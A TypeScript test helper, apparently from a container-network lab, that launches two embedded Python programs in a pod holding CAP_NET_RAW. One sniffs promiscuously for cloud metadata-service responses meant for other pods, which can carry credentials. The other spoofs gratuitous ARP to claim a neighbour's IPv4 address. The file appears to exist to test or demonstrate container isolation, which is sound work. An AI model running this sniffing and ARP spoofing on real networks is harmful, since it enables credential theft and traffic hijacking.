// What a pod with CAP_NET_RAW, a default of containerd, can do to its neighbours on a bridge.
import { type ChildProcess, execFileSync } from 'node:child_process';
import { once } from 'node:events';
import type { World } from './netns.ts';

/** Why the attacks cannot be made here; false when they can. */
export function attackFault(): string | false {
  try {
    execFileSync('python3', ['--version'], { stdio: 'ignore' });
    return false;
  } catch {
    return 'there is no python3 on this machine';
  }
}

// Prints what comes in from an address of the metadata service, whoever it is meant for.
const SNIFF = `
import socket, struct, sys
ETH_P_ALL, SOL_PACKET, PACKET_ADD_MEMBERSHIP, PROMISC = 3, 263, 1, 1
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
s.bind(("eth0", 0))
s.setsockopt(SOL_PACKET, PACKET_ADD_MEMBERSHIP, struct.pack("iHH8s", socket.if_nametoindex("eth0"), PROMISC, 0, b""))
print("ready", flush=True)
sources = socket.inet_aton("169.254.169.254"), socket.inet_pton(socket.AF_INET6, "fd00:ec2::254")
while True:
    frame = s.recv(65536)
    if s and frame[12:14] == b"\\x08\\x00" and frame[26:30] == sources[0]: payload = frame[34:]
    elif frame[12:14] == b"\\x86\\xdd" and frame[22:38] == sources[1]: payload = frame[54:]
    else: continue
    print("tcp" + repr(payload[(payload[12] >> 4) * 4:]), flush=True)
`;

// Says over and over, to everybody, that an address is at this interface: gratuitous ARP.
const CLAIM = `
import fcntl, socket, struct, sys, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
s.bind(("eth0", 0))
mac = fcntl.ioctl(s, 0x8927, struct.pack("256s", b"eth0"))[18:24]
address = socket.inet_aton(sys.argv[1])
arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mac + address + mac + address
print("ready", flush=True)
while True:
    s.send(b"\\xff" * 6 + mac + b"\\x08\\x06" + arp)
    time.sleep(0.02)
`;

/** Starts to listen in a pod. @returns the program, and what it has heard so far */
export async function sniff(
  world: World,
  pod: string,
): Promise<{ child: ChildProcess; heard: () => string }> {
  const child = world.start(pod, 'python3', '-c', SNIFF);
  let text = '';
  child.stdout!.setEncoding('utf8').on('data', (more: string) => (text += more));
  await once(child.stdout!, 'data');
  return { child, heard: () => text.replace('ready\n', '') };
}

/** Starts to claim another's IPv4 address. */
export async function claim(world: World, pod: string, address: string): Promise<ChildProcess> {
  const child = world.start(pod, 'python3', '-c', CLAIM, address);
  await once(child.stdout!, 'data');
  return child;
}
